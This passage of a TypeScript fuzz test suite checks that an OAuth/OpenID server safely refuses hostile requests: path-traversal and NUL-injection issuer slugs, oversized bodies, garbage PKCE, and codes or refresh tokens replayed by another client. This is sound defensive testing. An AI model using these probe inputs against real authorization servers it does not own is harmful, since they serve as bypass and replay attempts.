        const pairs: Pairs = [...baseline.pairs, [key, same ? value : other]];
        return formProbe(baseline.endpoint, pairs, `${key} twice`, INVALID_REQUEST, authOf(baseline));
      });
      await check(probes, 40);
    });

    it('NUL, control and odd Unicode characters in the meaningful parameter: a 4xx error, or inactive / accepted as the RFCs say', async () => {
      const probes = fc.tuple(baselineArbitrary(), HOSTILE_TEXT, fc.boolean()).map(([baseline, text, appended]) => {
        const value = appended ? `${baseline.pairs.find(([key]) => key === baseline.key)![1]}${text}` : text;
        return formProbe(baseline.endpoint, withPair(baseline.pairs, baseline.key, value), `${baseline.key} with special characters`, baseline.whenSpoilt(value), authOf(baseline));
      });
      await check(probes, 60);
    });

    it('huge values: 413 over the body limit; under it, the same answer as any other wrong value', async () => {
      const limit = planes.config.bodyLimitBytes;
      /** Percent-encoded multi-byte text can take 9 bytes a character: what decides is the size on the wire. */
      const bySize = (baseline: Baseline, pairs: Pairs, what: string, otherwise: Expectation) =>
        formProbe(baseline.endpoint, pairs, what, Buffer.byteLength(encodePairs(pairs)) > limit ? TOO_LARGE : otherwise, authOf(baseline));
      const probes = fc.tuple(baselineArbitrary(), LARGE_TEXT, fc.integer({ min: limit + 1, max: 3 * limit })).chain(([baseline, text, oversize]) =>
        fc.constantFrom(
          bySize(baseline, withPair(baseline.pairs, baseline.key, text), `${text.length}-character ${baseline.key}`, baseline.whenSpoilt(text)),
          formProbe(baseline.endpoint, withPair(baseline.pairs, baseline.key, 'x'.repeat(oversize)), `a ${oversize}-byte ${baseline.key}, over the limit`, TOO_LARGE, authOf(baseline)),
          formProbe(baseline.endpoint, [...baseline.pairs, ['padding', 'x'.repeat(oversize)]], `${oversize} bytes of an unknown parameter, over the limit`, TOO_LARGE, authOf(baseline)),
        ),
      );
      await check(probes, 30);
    });

    it('wrong media types and encodings: the parameters are not read (400/401) or the body is refused (400/415)', async () => {
      const probes = fc.tuple(baselineArbitrary(), fc.nat(7)).map(([baseline, variant]) => {
        const form = encodePairs(baseline.pairs);
        const json = JSON.stringify(Object.fromEntries(baseline.pairs));
        const path = `/t/${SLUG}/${baseline.endpoint}`;
        const make = (what: string, contentType: string | undefined, body: string, expected: Expectation, extra: Record<string, string> = {}) =>
          probe({ endpoint: baseline.endpoint, method: 'POST', path, headers: { ...authOf(baseline), ...(contentType ? { 'content-type': contentType } : {}), ...extra }, body: Buffer.from(body, 'utf8'), what, expected });
        switch (variant) {
          case 0:
            return make('the parameters as JSON', 'application/json', json, baseline.unread);
          case 1:
            return make('a form labelled text/plain', 'text/plain', form, baseline.unread);
          case 2:
            return make('a form without Content-Type', undefined, form, baseline.unread);
          case 3:
            return make('a multipart body', 'multipart/form-data; boundary=x', `--x\r\nContent-Disposition: form-data; name="${baseline.key}"\r\n\r\nvalue\r\n--x--\r\n`, baseline.unread);
          case 4:
            return make('malformed JSON', 'application/json', `${json.slice(0, -1)},`, INVALID_REQUEST);
          case 5:
            return make('a form in UTF-16', `${FORM}; charset=utf-16`, form, oauthError([415], ['invalid_request']));
          case 6:
            return make('a gzip Content-Encoding that does not inflate', FORM, form, INVALID_REQUEST, { 'content-encoding': 'gzip' });
          default:
            return make('an unknown Content-Encoding', FORM, form, oauthError([415], ['invalid_request']), { 'content-encoding': 'x-unknown' });
        }
      });
      await check(probes, 40);
    });

    it('unknown and hostile issuers: 404 (or 400 for a path that does not decode) in the OAuth shape', async () => {
      const slugs = fc.oneof(alnum(3, 20).map((slug) => slug.toLowerCase()).filter((slug) => slug !== SLUG && slug !== 'other-co'), fc.constantFrom('%00', '%ZZ', '..', '%2e%2e', 'ACME', 'acme%00', 'a', '-acme-', '%C0%80'));
      const probes = fc.tuple(baselineArbitrary(), slugs).map(([baseline, slug]) =>
        probe({
          endpoint: baseline.endpoint,
          method: 'POST',
          path: `/t/${slug}/${baseline.endpoint}`,
          headers: { 'content-type': FORM, ...authOf(baseline) },
          body: Buffer.from(encodePairs(baseline.pairs), 'utf8'),
          what: `issuer ${slug}`,
          expected: oauthError([400, 404], ['not_found', 'invalid_request']),
        }),
      );
      await check(probes, 30);
    });
  });

  describe('token endpoint grants', () => {
    it('unknown grant types: 400 unsupported_grant_type', async () => {
      const grants = fc.oneof(
        fc.constantFrom('password', 'implicit', 'token', 'AUTHORIZATION_CODE', 'authorization_code ', 'urn:ietf:params:oauth:grant-type:jwt-bearer', 'urn:ietf:params:oauth:grant-type:device_code', 'urn:ietf:params:oauth:grant-type:token-exchange'),
        alnum(1, 40),
        NASTY_STRINGS,
      );
      const probes = grants.map((grant) => formProbe('token', [['grant_type', grant], ['username', 'ada'], ['password', PASSWORD], ['scope', 'api:read']], `grant_type=${grant}`, oauthError([400], ['unsupported_grant_type'])));
      await check(probes, 30);
    });

    it('the live code with garbage PKCE, a wrong redirect URI, or presented by another client: invalid_grant or invalid_request, and the code stays unspent', async () => {
      const exchange = (): Pairs => [['grant_type', 'authorization_code'], ['code', live.code], ['redirect_uri', REDIRECT], ['code_verifier', live.verifier]];
      const probes = fc.oneof(
        GARBAGE_VERIFIER.map((verifier) => formProbe('token', withPair(exchange(), 'code_verifier', verifier), 'a garbage code_verifier', spoilt(verifier, oauthError([400], ['invalid_grant', 'invalid_request'])))),
        WRONG_REDIRECT_URI.map((uri) => formProbe('token', withPair(exchange(), 'redirect_uri', uri), 'a different redirect_uri', spoilt(uri, oauthError([400], ['invalid_grant'])))),
        fc.constantFrom('code', 'redirect_uri', 'code_verifier').map((key) => formProbe('token', withPair(exchange(), key, undefined), `no ${key}`, INVALID_REQUEST)),
        unknownTokens([live.code]).map((code) => formProbe('token', withPair(exchange(), 'code', code), 'an unknown code', spoilt(code, oauthError([400], ['invalid_grant'])))),
        fc.constantFrom(
          formProbe('token', [...exchange(), ['client_id', poster.clientId], ['client_secret', poster.clientSecret!]], 'the code presented by another client', oauthError([400], ['invalid_grant']), {}),
          formProbe('token', [...exchange(), ['client_id', spa.clientId]], 'the code presented by a public client', oauthError([400], ['invalid_grant']), {}),
          formProbe('token', withPair(exchange(), 'code_verifier', createHash('sha256').update(live.verifier).digest('base64url')), 'the challenge sent as verifier (plain PKCE)', oauthError([400], ['invalid_grant'])),
        ),
      );
      await check(probes, 60);
    });

    it('the live refresh token with another client or a wider scope, and random refresh tokens: invalid_grant or invalid_scope, and the family is not revoked', async () => {
      const refresh = (): Pairs => [['grant_type', 'refresh_token'], ['refresh_token', live.refreshToken]];
      const probes = fc.oneof(
        unknownTokens([live.refreshToken, live.accessToken]).map((token) => formProbe('token', withPair(refresh(), 'refresh_token', token), 'an unknown refresh token', spoilt(token, oauthError([400], ['invalid_grant'])))),
        fc
          .oneof(fc.constantFrom('api:read', 'openid api:write', 'openid phone', 'OPENID'), alnum(1, 20).map((scope) => `openid x-${scope}`), HOSTILE_TEXT_WITHOUT_NUL)
          .map((scope) => formProbe('token', [...refresh(), ['scope', scope]], 'a scope wider than granted', oauthError([400], ['invalid_scope']))),
        fc.constantFrom(
          formProbe('token', [...refresh(), ['client_id', poster.clientId], ['client_secret', poster.clientSecret!]], 'the refresh token presented by another client', oauthError([400], ['invalid_grant']), {}),
          formProbe('token', [...refresh(), ['client_id', spa.clientId]], 'the refresh token presented by a public client', oauthError([400], ['invalid_grant']), {}),
          formProbe('token', [['grant_type', 'refresh_token']], 'no refresh_token', INVALID_REQUEST),
          formProbe('token', [['grant_type', 'refresh_token'], ['refresh_token', live.accessToken]], 'an access token as refresh token', oauthError([400], ['invalid_grant'])),
        ),
      );
      await check(probes, 50);
    });
  });

  describe('introspection and revocation of tokens that are not live', () => {
    it('introspection: random, mutated and malformed tokens with any hint are {"active":false}', async () => {
      const probes = fc
        .tuple(unknownTokens([live.accessToken, live.refreshToken]), fc.option(fc.oneof(fc.constantFrom('access_token', 'refresh_token', 'id_token'), ANY_TEXT), { nil: undefined }))
        .filter(([, hint]) => hint === undefined || !hint.includes('\u0000'))
        .map(([token, hint]) => formProbe('introspect', hint === undefined ? [['token', token]] : [['token', token], ['token_type_hint', hint]], 'a token that is not live', spoilt(token, INACTIVE)));
      await check(probes, 40);
    });

    it('revocation: random tokens, and live tokens of another client, are accepted with 200 and revoke nothing', async () => {
      const posterCredentials = (token: string) => formProbe('revoke', [['token', token], ['client_id', poster.clientId], ['client_secret', poster.clientSecret!]], "another client's live token", REVOCATION_ACCEPTED, {});
      const probes = fc.oneof(
        fc
          .tuple(unknownTokens([live.accessToken, live.refreshToken]), fc.option(fc.constantFrom('access_token', 'refresh_token', 'garbage'), { nil: undefined }))
          .map(([token, hint]) => formProbe('revoke', hint === undefined ? [['token', token]] : [['token', token], ['token_type_hint', hint]], 'a token that is not live', spoilt(token, REVOCATION_ACCEPTED))),
        fc.constantFrom(live.accessToken, live.refreshToken, live.serviceToken).map(posterCredentials),
      );
      await check(probes, 40);
    });
  });

  describe('UserInfo', () => {
    it('garbage Authorization headers, tokens in two places, and tokens without openid: 400, 401 with a Bearer challenge, or 403', async () => {
      const headerSafe = (text: string) => text.replace(/[^\t\x20-\x7e]/g, '?');
      const headers = fc.oneof(
        garbageAuthorization(app.clientId),
        unknownTokens([live.accessToken]).map((token) => `Bearer ${headerSafe(token)}`),
        fc.constantFrom('Bearer', 'Bearer ', 'Bearer a b', `Bearer ${live.accessToken} extra`, `Bearer  ${live.accessToken}x`, `Token ${live.accessToken}`),
      );
      // RFC 6750 §3.1: a Bearer header that is not one token is invalid_request (400); anything
      // else is an invalid or absent token (401).
      const malformedBearer = (authorization: string) => /^Bearer(\s|$)/i.test(authorization.trim()) && !/^Bearer [^\s]+$/i.test(authorization.trim());
      const probes = fc.oneof(
        fc.tuple(METHOD, headers).map(([method, authorization]) =>
          probe({ endpoint: 'userinfo', method, path: `/t/${SLUG}/userinfo`, headers: { authorization }, what: 'a garbage Authorization header', expected: malformedBearer(authorization) ? INVALID_REQUEST : INVALID_TOKEN }),
        ),
        unknownTokens([live.accessToken]).map((token) =>
          probe({ endpoint: 'userinfo', method: 'GET', path: `/t/${SLUG}/userinfo?access_token=${percentEncode(token)}`, headers: {}, what: 'a token in the query string (not accepted)', expected: INVALID_TOKEN }),
        ),
        fc.constant(formProbe('userinfo', [['access_token', live.accessToken]], 'the token in the header and the body', INVALID_REQUEST, { authorization: `Bearer ${live.accessToken}` })),
        fc.constantFrom('GET', 'POST').map((method) =>
          // A valid token without openid for a user is insufficient_scope (RFC 6750 §3.1), not invalid.
          probe({ endpoint: 'userinfo', method: method as 'GET' | 'POST', path: `/t/${SLUG}/userinfo`, headers: { authorization: `Bearer ${live.serviceToken}` }, what: 'a client_credentials token (no user, no openid)', expected: oauthError([403], ['insufficient_scope']) }),
        ),
      );
      await check(probes, 40);
    });
  });

  describe('authorization endpoint', () => {
    it('an unknown, malformed or foreign client_id: an HTML error page (400), never a redirect', async () => {
      const clientIds = fc.option(
        fc.oneof(ANY_TEXT, RANDOM_UUID, fc.constant(foreignClient.clientId), fc.constant(app.clientId.toUpperCase()), fc.constant(` ${app.clientId}`), fc.constant(`${app.clientId}\u0000`)),
        { nil: undefined },
      );
      const probes = fc.tuple(METHOD, clientIds, STATE, fc.option(INVALID_AFTER_REDIRECT_CHECK, { nil: undefined })).map(([method, clientId, state, alsoBad]) => {
        let pairs = withPair(validAuthorization(state), 'client_id', clientId);
        if (alsoBad) pairs = withPair(pairs, alsoBad[0], alsoBad[1]);
        return authorizeProbe(method, pairs, `client_id ${JSON.stringify(clientId)}${alsoBad ? ` and ${alsoBad[2]}` : ''}`, PAGE_400);
      });
      await check(probes, 50);
    });

    it('a redirect URI that is not registered exactly: an HTML error page (400), never a redirect', async () => {
      const probes = fc.tuple(METHOD, fc.option(WRONG_REDIRECT_URI, { nil: undefined }), STATE, fc.option(INVALID_AFTER_REDIRECT_CHECK, { nil: undefined })).map(([method, uri, state, alsoBad]) => {
        let pairs = withPair(validAuthorization(state), 'redirect_uri', uri);
        if (alsoBad) pairs = withPair(pairs, alsoBad[0], alsoBad[1]);
        return authorizeProbe(method, pairs, `redirect_uri ${JSON.stringify(uri)}${alsoBad ? ` and ${alsoBad[2]}` : ''}`, PAGE_400);
      });
      await check(probes, 50);
    });

    it('with a valid client and redirect URI, any other bad parameter (PKCE, response_type, scope, request objects, prompt, max_age, lengths): a 302 back with error, state and iss', async () => {
      const probes = fc.tuple(METHOD, STATE, INVALID_AFTER_REDIRECT_CHECK).map(([method, state, [key, value, what]]) =>
        authorizeProbe(method, withPair(validAuthorization(state), key, value), what, { kind: 'error-redirect', state }),
      );
      const longState = fc.integer({ min: 2_049, max: 6_000 }).map((length) => {
        const state = 's'.repeat(length);
        return authorizeProbe('GET', validAuthorization(state), 'a state over 2048 characters', { kind: 'error-redirect', state });
      });
      await check(fc.oneof({ weight: 5, arbitrary: probes }, longState), 70);
    });

    it('repeated parameters and NUL characters: refused without a code or a session, as a page or an error redirect', async () => {
      const probes = fc.tuple(METHOD, fc.nat(), fc.boolean(), STATE).map(([method, pick, nul, state]) => {
        const pairs = validAuthorization(state);
        const [key, value] = pairs[pick % pairs.length]!;
        const hostile: Pairs = nul ? withPair(pairs, key, `${value}\u0000`) : [...pairs, [key, value]];
        return authorizeProbe(method, hostile, nul ? `NUL in ${key}` : `${key} twice`, { kind: 'page-or-error-redirect', state: key === 'state' ? undefined : state });
      });
      await check(probes, 40);
    });

    it('huge parameters: an error page or error redirect under the limits, 431 over the URL limit', async () => {
      const sized = fc.tuple(fc.constantFrom('client_id', 'redirect_uri', 'scope', 'code_challenge', 'response_type', 'request', 'request_uri'), fc.integer({ min: 1_000, max: 12_000 }), METHOD).map(([key, length, method]) => {
        const expected: Expectation = key === 'client_id' || key === 'redirect_uri' ? PAGE_400 : { kind: 'error-redirect', state: 'big' };
        return authorizeProbe(method, withPair(validAuthorization('big'), key, 'x'.repeat(length)), `a ${length}-character ${key}`, expected);
      });
      const overUrl = fc.integer({ min: 20_000, max: 60_000 }).map((length) =>
        authorizeProbe('GET', withPair(validAuthorization('big'), 'scope', 'x'.repeat(length)), `a ${length}-character URL, over Node's header limit`, { kind: 'refused-before-routing', statuses: [431] }),
      );
      await check(fc.oneof({ weight: 4, arbitrary: sized }, overUrl), 30);
    });

    /** A POST to the authorization endpoint with these headers and body. */
    const authorizePost = (what: string, contentType: string, body: string, expected: Expectation, extra: Record<string, string> = {}) =>
      probe({ endpoint: 'authorize', method: 'POST', path: `/t/${SLUG}/authorize`, headers: { 'content-type': contentType, ...extra }, body: Buffer.from(body, 'utf8'), what, expected });

    it('POST with a body that is not a form, or not a valid one: an HTML error page (400), never a redirect', async () => {
      const probes = fc.tuple(fc.nat(2), STATE).map(([variant, state]) => {
        const form = encodePairs(validAuthorization(state));
        switch (variant) {
          case 0:
            return authorizePost('a JSON body without client_id', 'application/json', JSON.stringify(Object.fromEntries(withPair(validAuthorization(state), 'client_id', undefined))), PAGE_400);
          case 1:
            return authorizePost('a JSON body with non-string values', 'application/json', JSON.stringify({ ...Object.fromEntries(validAuthorization(state)), scope: ['openid'], max_age: 5 }), PAGE_400);
          default:
            return authorizePost('a form labelled text/plain', 'text/plain', form, PAGE_400);
        }
      });
      await check(probes, 20);
    });

    // SPEC §5.1: before the client and redirect URI are validated, errors are an HTML page. The
    // body parser refuses these before the endpoint runs; the browser must still get a page.
    it('POST with a body the parser refuses (over the body limit, malformed JSON, a gzip body that does not inflate): an HTML error page, not JSON', async () => {
      const limit = planes.config.bodyLimitBytes;
      const probes = fc.oneof(
        fc.integer({ min: limit + 1, max: 3 * limit }).map((length) =>
          authorizePost(`a ${length}-byte scope, over the body limit`, FORM, encodePairs(withPair(validAuthorization('big'), 'scope', 'x'.repeat(length))), { kind: 'error-page', statuses: [413] }),
        ),
        fc.constantFrom('{"client_id":', '{"client_id": "a",}', "{'client_id': 1}", '"client_id"', 'nul\u0000l').map((text) => authorizePost('malformed JSON', 'application/json', text, PAGE_400)),
        STATE.map((state) => authorizePost('a gzip Content-Encoding that does not inflate', FORM, encodePairs(validAuthorization(state)), PAGE_400, { 'content-encoding': 'gzip' })),
      );
      await check(probes, 15);
    });

    it('an unknown, hostile or undecodable issuer: an HTML error page (404, or 400), never a redirect', async () => {
      const slugs = fc.oneof(
        alnum(3, 20).map((slug) => slug.toLowerCase()).filter((slug) => slug !== SLUG && slug !== 'other-co'),
        fc.constantFrom('%00', '..', 'ACME', 'acme%00', '%ZZ', '%C0%80', 'acme%FF'),
      );
      const probes = fc.tuple(METHOD, slugs, STATE).map(([method, slug, state]) => authorizeProbe(method, validAuthorization(state), `issuer ${slug}`, { kind: 'error-page', statuses: [400, 404] }, slug));
      await check(probes, 25);
    });
  });

  it('leaves the watched tables exactly as they were, and the live credentials usable', async () => {
    expect(await tableDigests()).toEqual(baseline);
    const introspected = await postForm(`${issuer}/introspect`, { token: live.accessToken }, { authorization: appBasic() });
    expect(JSON.parse(introspected.text)).toMatchObject({ active: true });
    const redeemed = await postForm(`${issuer}/token`, { grant_type: 'authorization_code', code: live.code, redirect_uri: REDIRECT, code_verifier: live.verifier }, { authorization: appBasic() });
    expect(redeemed.status).toBe(200);
  });
});

/** fast-check's report, with the counterexample as a request line and the failure without a stack trace. */
function reportReadably(details: fc.RunDetails<[Probe]>): void {
  if (!details.failed) return;
  const failure = details.errorInstance instanceof Error ? details.errorInstance.message : String(details.errorInstance);
  const example = details.counterexample ? describeProbe(details.counterexample[0]) : 'no counterexample';
  throw new Error(`failed after ${details.numRuns} run(s), shrunk ${details.numShrinks} time(s) (seed ${details.seed}, path "${details.counterexamplePath}"):\n  ${example}\n  ${failure}`);
}
